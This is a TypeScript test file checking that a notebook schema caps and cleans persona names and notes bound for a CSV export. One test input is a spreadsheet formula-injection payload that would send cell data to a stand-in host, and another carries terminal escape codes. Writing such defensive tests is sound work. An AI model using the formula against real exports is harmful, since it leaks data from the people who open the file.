/**
 * Persona names and notes from a link are plain text with a length cap (RELIABILITY.md T12):
 * they reach every row of a segment in segments.csv. The schema cleans them on the way in
 * (control characters out, a name on one line of at most personaNameChars), so an old notebook
 * with a longer name still opens.
 */
import { describe, expect, it } from 'vitest';
import { NOTEBOOK_VERSION, newPersonasCell, type Notebook } from '../../../src/notebook/model';
import { parseNotebook, plainPersonaText, SCHEMA_LIMITS } from '../../../src/notebook/schema';

function withEdit(name: string, description: string): Notebook {
	return {
		version: NOTEBOOK_VERSION,
		title: 't',
		cells: [{ ...newPersonasCell(), edits: [{ segment: 1, name, description }] }]
	};
}

function editOf(doc: Notebook): { name: string; description: string } {
	const result = parseNotebook(JSON.parse(JSON.stringify(doc)));
	if (!result.ok) throw new Error(result.error);
	const cell = result.notebook.cells[0];
	if (cell?.kind !== 'personas') throw new Error('not a personas cell');
	return cell.edits[0]!;
}

describe('persona text from a link', () => {
	it('caps a name and puts it on one line', () => {
		const long = `=HYPERLINK("http://x/?"&A2)\t\r\n${'y'.repeat(300)}`.slice(0, 200);
		const edit = editOf(withEdit(long, 'fine'));
		expect(edit.name.length).toBe(SCHEMA_LIMITS.personaNameChars);
		expect(edit.name).not.toMatch(/[\t\r\n]/);
		expect(edit.name.startsWith('=HYPERLINK("http://x/?"&A2) ')).toBe(true);
	});

	it('keeps a note’s line breaks, drops other control characters', () => {
		const edit = editOf(withEdit('Loyal', 'one\r\ntwo\u0007\u001b[31m\u2028three'));
		expect(edit.description).toBe('one\ntwo [31m\u2028three');
	});

	it('leaves plain text as it is, and still refuses what is over the old caps', () => {
		expect(editOf(withEdit('Bargain hunters', 'Buy on discount.'))).toEqual({
			segment: 1,
			name: 'Bargain hunters',
			description: 'Buy on discount.'
		});
		expect(parseNotebook(withEdit('x'.repeat(SCHEMA_LIMITS.nameChars + 1), '')).ok).toBe(false);
		expect(plainPersonaText('a\u0085b', 'name')).toBe('a b');
	});
});
